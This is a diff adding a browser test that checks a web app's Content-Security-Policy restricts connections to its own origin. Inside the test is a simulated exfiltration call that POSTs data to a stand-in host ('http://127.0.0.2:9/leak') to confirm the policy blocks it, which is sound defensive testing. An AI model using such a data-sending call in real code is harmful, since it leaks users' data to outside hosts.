@@ -81,3 +81,21 @@ test('file names and clone text with HTML are shown literally and never run', as
   expect(dialogs, 'dialogs opened by injected script').toEqual([]);
   expect(violations, 'CSP violations').toEqual([]);
 });
+
+test('the production Content-Security-Policy forbids connections to other hosts', async ({ page }) => {
+  await openApp(page);
+  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
+  const policy = (await meta.count()) > 0 ? await meta.getAttribute('content') : null;
+  test.skip(policy === null, 'this build has no CSP meta (scripts/cspPlugin.ts not in vite.config.ts)');
+  expect(policy).toContain("connect-src 'self'");
+  expect(policy).not.toContain("'unsafe-eval'");
+  const violated = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
+        fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'pixels' }).catch(() => undefined);
+        setTimeout(() => resolve('no violation'), 5000);
+      }),
+  );
+  expect(violated).toBe('connect-src');
+});
